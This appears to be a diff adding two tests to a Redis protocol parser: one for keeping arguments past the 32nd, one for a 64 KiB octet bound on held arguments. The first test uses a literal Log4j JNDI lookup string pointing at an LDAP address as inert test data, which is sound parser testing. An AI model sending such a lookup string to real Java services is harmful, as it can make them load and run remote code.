@@ -146,6 +146,37 @@ describe('redis parser', () => {
     ]);
   });
 
+  it('keeps every argument of a command past the 32nd, as the commands after it (ADR 35)', () => {
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4j lookup, not a template.
+    const jndi = '${jndi:ldap://198.51.100.7/a}';
+    const pairs = Array.from({ length: 20 }, (_, i) => [`k${i}`, `v${i}`]).flat();
+    const segments: Segment[] = [
+      ['to-server', resp('MSET', ...pairs, 'key', jndi)],
+      ['to-server', resp('GET', 'k1')],
+    ];
+    for (const events of [feed(redis, segments), feedByteByByte(redis, segments)]) {
+      const [mset, get] = events as { args: string[] }[];
+      expect(mset?.args).toEqual([...pairs, 'key', jndi]);
+      expect(get?.args).toEqual(['k1']);
+    }
+  });
+
+  it('bounds the arguments it holds in octets: 64 KiB of them, then none, and the next command whole', () => {
+    // A command's arguments are held until its last one arrives: 20,000 of them keep the first 64 KiB (each
+    // argument counted with 16 octets for holding it), not a count.
+    const many = Array.from({ length: 20_000 }, (_, i) => `a${i}`);
+    const events = feed(redis, [
+      ['to-server', resp('RPUSH', 'list', ...many)],
+      ['to-server', resp('GET', 'k1')],
+    ]) as { command: string; args: string[] }[];
+    const args = events[0]?.args ?? [];
+    expect(args.slice(0, 3)).toEqual(['list', 'a0', 'a1']);
+    expect(args.length).toBeGreaterThan(3000);
+    expect(args.length).toBeLessThan(many.length);
+    expect(args.reduce((n, a) => n + a.length + 16, 'RPUSH'.length + 16)).toBeLessThanOrEqual(64 * 1024);
+    expect(events[1]).toMatchObject({ command: 'GET', args: ['k1'] });
+  });
+
   it('survives a 100 KiB bulk string and stops on a malformed length', () => {
     const big = resp('SET', 'k', 'v'.repeat(100_000));
     expect(
